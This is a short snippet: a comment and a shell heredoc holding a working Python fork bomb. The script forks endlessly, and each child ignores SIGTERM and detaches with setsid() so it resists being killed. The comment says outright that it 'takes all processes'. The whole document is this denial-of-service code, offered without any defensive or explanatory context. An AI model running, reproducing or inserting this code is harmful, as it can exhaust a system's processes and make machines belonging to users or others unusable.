# the code takes all processes
python_code <<'PY'
import os
import signal
import time

while True:
    try:
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.setsid()
            time.sleep(1000)
    except OSError:
        os._exit(1)
PY
